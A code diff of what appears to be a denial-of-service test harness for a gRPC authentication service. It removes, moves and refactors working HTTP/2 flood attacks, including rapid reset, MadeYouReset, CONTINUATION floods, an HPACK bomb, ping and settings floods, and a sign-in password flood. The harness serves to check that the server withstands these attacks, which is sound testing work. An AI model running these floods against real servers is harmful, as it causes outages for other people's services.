@@ -13,320 +13,16 @@ import socket
 import sys
 import time
 from collections import Counter
-from typing import Callable, Iterator
 
-from hyperframe import frame as frames
-
-from key_updates import connect as connect_to_update, key_updates
-from raw import (ACK, CHECK, CONTINUATION, DATA, END_HEADERS, END_STREAM, ENABLE_PUSH, HEADERS, HEADER_TABLE_SIZE,
-                 INITIAL_WINDOW_SIZE, MAX_CONCURRENT_STREAMS, MAX_FRAME_SIZE, MAX_HEADER_LIST_SIZE, PADDED, PING,
-                 PREFACE, PRIORITY, PRIORITY_FLAG, WATCH, Connection, frame, message, request, reset, settings,
-                 window_update)
+import frame_attacks  # noqa: F401, which adds to the list
+from attacker import ATTACKS, PATIENCE_SECONDS, Attacker, answered, ask, attack, sent
+from key_updates import closed_after, connect as connect_to_update, key_updates
+from raw import (DATA, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, Connection, frame, message, request,
+                 settings, window_update)
 
 FETCH, SIGN_IN = "/latchkey.v1.AuthService/FetchProviders", "/latchkey.v1.AuthService/SignIn"
 REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
 LIST_SERVICES = message(b"\x3a\x01*")
-PATIENCE_SECONDS = 0.5
-# Field 16 of RFC 7541's static table: one byte that counts sixty.
-REFERENCE = b"\x90"
-
-Attack = Callable[["Attacker"], None]
-ATTACKS: dict[str, Attack] = {}
-# What each attack meets at its limit: the words of a GOAWAY, a status, a reset, or a connection that is closed.
-MEETS: dict[str, str] = {}
-
-
-def attack(meets: str) -> Callable[[Attack], Attack]:
-    def note(function: Attack) -> Attack:
-        ATTACKS[function.__name__], MEETS[function.__name__] = function, meets
-        return function
-    return note
-
-
-class Attacker:
-    """Where to attack, until when, and what was met: words of GOAWAYs, statuses, how connections ended."""
-
-    def __init__(self, port: int) -> None:
-        self.port, self.until, self.met = port, 0.0, Counter[str]()
-
-    @property
-    def goes_on(self) -> bool:
-        return time.monotonic() < self.until
-
-    def connect(self, **options: object) -> Connection:
-        return Connection(self.port, patience_seconds=PATIENCE_SECONDS, **options)  # type: ignore[arg-type]
-
-    def settled(self, **options: object) -> Connection:
-        connection = self.connect(**options)
-        connection.until(frames.SettingsFrame)
-        connection.write(frame(PING, 0, 0, b"settled?"))
-        connection.until(frames.PingFrame)
-        return connection
-
-    def flood(self, connection: Connection, parts: Iterator[bytes] | Callable[[], bytes], rounds: int = 10_000) -> None:
-        """Writes until the connection is ended or so many rounds are over, then notes what was said."""
-        with connection:
-            for _ in range(rounds):
-                if not self.goes_on:
-                    return
-                part = next(parts, None) if isinstance(parts, Iterator) else parts()
-                if part is None or not sent(connection, part):
-                    break
-            self.note_end(connection)
-
-    def note_end(self, connection: Connection) -> None:
-        """The last word of a connection that is to end now."""
-        try:
-            word = "closed"
-            while (got := connection.read(PATIENCE_SECONDS)) is not None:
-                if isinstance(got, frames.GoAwayFrame):
-                    word = got.additional_data.decode("latin-1") or f"goaway {got.error_code}"
-                    break
-            self.met[word] += 1
-        except TimeoutError:
-            self.met["open"] += 1
-
-    def note_reply(self, connection: Connection, stream: int) -> None:
-        reply = connection.reply(stream, PATIENCE_SECONDS)
-        self.met[f"status {reply.status}" if reply.status is not None else f"reset {reply.reset}"] += 1
-
-    def calls(self, body: bytes, path: str = CHECK, answers: int = 1000) -> None:
-        """One connection that sends the same call again and again."""
-        with self.settled() as connection:
-            for _ in range(answers):
-                if not self.goes_on:
-                    return
-                stream = connection.stream()
-                connection.write(connection.headers(stream, request(path)))
-                connection.body(stream, body)
-                self.note_reply(connection, stream)
-
-
-def sent(connection: Connection, part: bytes) -> bool:
-    try:
-        connection.socket.sendall(part)
-        return True
-    except OSError:
-        return False
-
-
-def streams(connection: Connection, make: Callable[[int], bytes], each: int = 50) -> Iterator[bytes]:
-    while True:
-        yield b"".join(make(connection.stream()) for _ in range(each))
-
-
-def opened(connection: Connection, path: str = CHECK) -> Callable[[int], bytes]:
-    """Bytes that open a stream and leave it open. The first call fills the table of both sides."""
-    connection.write(connection.headers(connection.stream(), request(path), END_HEADERS | END_STREAM))
-    block = connection.encoder.encode(request(path))
-    return lambda stream: frame(HEADERS, END_HEADERS, stream, block)
-
-
-# Streams.
-
-
-@attack("too_many_resets")
-def rapid_reset(attacker: Attacker) -> None:
-    """CVE-2023-44487."""
-    connection = attacker.settled()
-    head = opened(connection)
-    attacker.flood(connection, streams(connection, lambda stream: head(stream) + reset(stream)))
-
-
-@attack("too_many_stream_errors")
-def made_you_reset_by_window(attacker: Attacker) -> None:
-    """CVE-2025-8671: a window past 2^31 - 1."""
-    connection = attacker.settled()
-    head = opened(connection)
-    attacker.flood(connection, streams(connection, lambda stream: head(stream) + window_update(stream, 2**31 - 1)))
-
-
-@attack("too_many_stream_errors")
-def made_you_reset_by_length(attacker: Attacker) -> None:
-    """CVE-2025-8671: a content-length that is not kept."""
-    connection = attacker.settled()
-    connection.write(connection.headers(connection.stream(), request(CHECK, ("content-length", "5"))))
-    block = connection.encoder.encode(request(CHECK, ("content-length", "5")))
-    attacker.flood(connection, streams(connection, lambda stream: frame(
-        HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, b"a")))
-
-
-@attack("too_many_stream_errors")
-def made_you_reset_by_overrun(attacker: Attacker) -> None:
-    """CVE-2025-8671: more DATA than a stream's window holds, of which nghttp2 tells nobody."""
-    connection = attacker.settled()
-    head, full = opened(connection), bytes(16384)
-    attacker.flood(connection, streams(connection, lambda stream: head(stream) + frame(
-        DATA, 0, stream, full) * 5, each=1))
-
-
-@attack("request HEADERS: depend on itself")
-def made_you_reset_by_itself(attacker: Attacker) -> None:
-    """CVE-2025-8671: a stream that depends on itself."""
-    connection = attacker.settled()
-    opened(connection)
-    block = connection.encoder.encode(request())
-    attacker.flood(connection, streams(connection, lambda stream: frame(
-        HEADERS, END_HEADERS | PRIORITY_FLAG, stream, stream.to_bytes(4, "big") + b"\x0f" + block)))
-
-
-@attack("WINDOW_UPDATE: window_size_increment == 0")
-def made_you_reset_by_zero_increment(attacker: Attacker) -> None:
-    """CVE-2025-8671: a window that is opened by nothing. nghttp2 ends the connection at the first."""
-    connection = attacker.settled()
-    head = opened(connection)
-    attacker.flood(connection, streams(connection, lambda stream: head(stream) + window_update(stream, 0)))
-
-
-@attack("RST_STREAM: stream in idle")
-def reset_of_idle_streams(attacker: Attacker) -> None:
-    connection = attacker.settled()
-    attacker.flood(connection, streams(connection, reset))
-
-
-@attack("too_many_stream_errors")
-def streams_past_the_limit(attacker: Attacker) -> None:
-    connection = attacker.settled()
-    attacker.flood(connection, streams(connection, opened(connection)))
-
-
-@attack("too_many_premature_streams")
-def streams_past_a_limit_never_acknowledged(attacker: Attacker) -> None:
-    connection = attacker.connect(acknowledge=False)
-    attacker.flood(connection, streams(connection, opened(connection)))
-
-
-# Header blocks.
-
-
-@attack("too_many_continuations")
-def continuation_flood(attacker: Attacker) -> None:
-    """CVE-2024-28182."""
-    connection = attacker.settled()
-    connection.write(frame(HEADERS, 0, 1, connection.encoder.encode(request())))
-    attacker.flood(connection, lambda: frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 100) * 10)
-
-
-@attack("too_many_continuations")
-def empty_continuations(attacker: Attacker) -> None:
-    connection = attacker.settled()
-    connection.write(frame(HEADERS, 0, 1, connection.encoder.encode(request())))
-    attacker.flood(connection, lambda: frame(CONTINUATION, 0, 1) * 100)
-
-
-@attack("too_many_continuations")
-def header_block_of_a_megabyte(attacker: Attacker) -> None:
-    connection = attacker.settled()
-    block = connection.encoder.encode(request() + [("x-" + str(at), "v" * 4000) for at in range(256)], huffman=False)
-    parts = [block[at:at + 16384] for at in range(0, len(block), 16384)]
-    attacker.flood(connection, iter([frame(HEADERS, 0, 1, parts[0])] + [
-        frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, 1, part) for part in parts[1:]]))
-
-
-@attack("header_list_bomb")
-def hpack_bomb(attacker: Attacker) -> None:
-    """One entry of four thousand bytes, named by sixteen thousand bytes of references."""
-    connection = attacker.settled()
-    block = connection.encoder.encode(request() + [("x-bomb", "b" * 3900)])
-    # 62 is the newest entry of the dynamic table.
-    attacker.flood(connection, iter([frame(HEADERS, END_HEADERS, 1, block + b"\xbe" * 12000)]))
-
-
-@attack("too_many_large_header_lists")
-def header_lists_past_the_limit(attacker: Attacker) -> None:
-    connection = attacker.settled()
-    block = connection.encoder.encode(request()) + REFERENCE * 300
-    attacker.flood(connection, streams(connection, lambda stream: frame(
-        HEADERS, END_HEADERS | END_STREAM, stream, block), each=10))
-
-
-@attack("too_many_large_header_lists")
-def fields_without_a_name(attacker: Attacker) -> None:
-    """CVE-2019-9516."""
-    connection = attacker.settled()
-    block = connection.encoder.encode(request()) + b"\x00\x00\x00" * 4000
-    attacker.flood(connection, streams(connection, lambda stream: frame(
-        HEADERS, END_HEADERS | END_STREAM, stream, block), each=2))
-
-
-# Frames that bring nothing.
-
-
-@attack("too_many_pings")
-def ping_flood(attacker: Attacker) -> None:
-    """CVE-2019-9512."""
-    attacker.flood(attacker.settled(), lambda: frame(PING, 0, 0, b"pingping") * 500)
-
-
-@attack("too_many_control_frames")
-def ping_answers_nobody_asked_for(attacker: Attacker) -> None:
-    attacker.flood(attacker.settled(), lambda: frame(PING, ACK, 0, b"pingping") * 500)
-
-
-@attack("too_many_settings")
-def settings_flood(attacker: Attacker) -> None:
-    """CVE-2019-9515."""
-    attacker.flood(attacker.settled(), lambda: settings((HEADER_TABLE_SIZE, 0), (HEADER_TABLE_SIZE, 4096)) * 10)
-
-
-@attack("too_many_empty_frames")
-def empty_data(attacker: Attacker) -> None:
-    """CVE-2019-9518."""
-    connection = attacker.settled()
-    connection.write(connection.headers(1, request()))
-    attacker.flood(connection, lambda: frame(DATA, 0, 1) * 5)
-
-
-@attack("too_many_empty_frames")
-def padded_empty_data(attacker: Attacker) -> None:
-    connection = attacker.settled()
-    connection.write(connection.headers(1, request()))
-    attacker.flood(connection, lambda: frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 5)
-
-
-@attack("too_many_control_frames")
-def window_updates(attacker: Attacker) -> None:
-    """CVE-2019-9511."""
-    attacker.flood(attacker.settled(), lambda: window_update(0, 1) * 500)
-
-
-@attack("too_many_control_frames")
-def unknown_frames(attacker: Attacker) -> None:
-    attacker.flood(attacker.settled(), lambda: frame(0xfa, 0xff, 0) * 500)
-
-
-@attack("too_many_priorities")
-def priorities(attacker: Attacker) -> None:
-    """CVE-2019-9513: the tree is churned."""
-    def churn() -> Iterator[bytes]:
-        while True:
-            yield b"".join(frame(PRIORITY, 0, 2 * at + 3, (2 * at + 1).to_bytes(4, "big") + b"\x10") for at in range(50))
-
-    attacker.flood(attacker.settled(), churn())
-
-
-@attack("status 0")
-def settings_games(attacker: Attacker) -> None:
-    """The least and the most of each setting, and a call under each."""
-    with attacker.settled() as connection:
-        for pair in [(HEADER_TABLE_SIZE, 0), (HEADER_TABLE_SIZE, 2**32 - 1), (ENABLE_PUSH, 0), (ENABLE_PUSH, 1),
-                     (MAX_CONCURRENT_STREAMS, 0), (MAX_CONCURRENT_STREAMS, 2**32 - 1), (MAX_FRAME_SIZE, 16384),
-                     (MAX_FRAME_SIZE, 2**24 - 1), (MAX_HEADER_LIST_SIZE, 0), (MAX_HEADER_LIST_SIZE, 2**32 - 1)]:
-            connection.write(settings(pair))
-            attacker.met[f"status {connection.call().status}"] += 1
-
-
-@attack("status 0")
-def window_games(attacker: Attacker) -> None:
-    """A hundred streams whose windows are moved together between the ends of their range."""
-    with attacker.settled() as connection:
-        held = [connection.stream() for _ in range(100)]
-        connection.write(*[connection.headers(stream, request()) for stream in held])
-        for size in (2**31 - 1, 0, 2**31 - 1, 0):
-            connection.write(settings((INITIAL_WINDOW_SIZE, size)))
-        connection.write(settings((INITIAL_WINDOW_SIZE, 65535)),
-                         *[frame(DATA, END_STREAM, stream, message()) for stream in held])
-        answered(attacker, connection, set(held), PATIENCE_SECONDS)
 
 
 # Slowly.
@@ -498,15 +194,10 @@ def key_update_flood(attacker: Attacker) -> None:
     plain, ssl = connect_to_update(attacker.port)
     with plain:
         try:
-            plain.settimeout(PATIENCE_SECONDS)
             plain.sendall(key_updates(ssl, 5_000))
-            while plain.recv(65536):
-                pass
-            attacker.met["closed"] += 1
         except ConnectionError:
-            attacker.met["closed"] += 1
-        except TimeoutError:
-            attacker.met["open"] += 1
+            pass
+        attacker.met["closed" if closed_after(plain, PATIENCE_SECONDS) else "open"] += 1
 
 
 # Messages.
@@ -533,14 +224,19 @@ def compressed_message(attacker: Attacker) -> None:
     attacker.calls(message(b"\x1f\x8b" + bytes(100), flag=1))
 
 
+def wrong_password() -> bytes:
+    """A SignInRequest for an account that nobody has."""
+    password = b"\x0a\x0da@example.com" + b"\x12\x0cnot-this-one"
+    kind = b"\x0a" + bytes([len(password)]) + password
+    return b"\x0a" + bytes([len(kind)]) + kind
+
+
 @attack("status 8")
 def password_flood(attacker: Attacker) -> None:
     """A hundred wrong passwords at once, for accounts that may or may not be."""
     with attacker.settled() as connection:
         while attacker.goes_on:
-            password = b"\x0a\x0ea@example.com." + b"\x12\x0cnot-this-one"
-            kind = b"\x0a" + bytes([len(password)]) + password
-            body = message(b"\x0a" + bytes([len(kind)]) + kind)
+            body = message(wrong_password())
             held = [connection.stream() for _ in range(100)]
             connection.write(*[connection.headers(stream, request(SIGN_IN)) + frame(DATA, END_STREAM, stream, body)
                                for stream in held])
@@ -563,7 +259,7 @@ def greedy_client(attacker: Attacker) -> None:
 def greedy_clients(attacker: Attacker) -> None:
     """The same on two hundred connections, which are all ready at once."""
     held = [attacker.settled() for _ in range(200)]
-    while attacker.goes_on:
+    for _ in range(3):
         for connection in held:
             ask(connection, 5)
         for connection in held:
@@ -572,26 +268,8 @@ def greedy_clients(attacker: Attacker) -> None:
         connection.socket.close()
 
 
-def ask(connection: Connection, count: int) -> None:
-    connection.write(*[connection.headers(stream, request()) + frame(DATA, END_STREAM, stream, message())
-                       for stream in [connection.stream() for _ in range(count)]])
-
-
-def answered(attacker: Attacker, connection: Connection, waiting: set[int], timeout_seconds: float) -> None:
-    deadline = time.monotonic() + timeout_seconds
-    while waiting:
-        got = connection.read(deadline - time.monotonic())
-        if got is None:
-            attacker.met["closed"] += 1
-            return
-        if got.stream_id in waiting and ("END_STREAM" in got.flags or isinstance(got, frames.RstStreamFrame)):
-            waiting.discard(got.stream_id)
-            status = dict(got.fields).get("grpc-status") if isinstance(got, frames.HeadersFrame) else "reset"
-            attacker.met[f"status {status}"] += 1
-
-
 def main(name: str, port: int) -> None:
-    os.nice(19)
+    os.nice(5)
     attacker = Attacker(port)
     for line in sys.stdin:
         attacker.until, attacker.met = time.monotonic() + float(line), Counter()
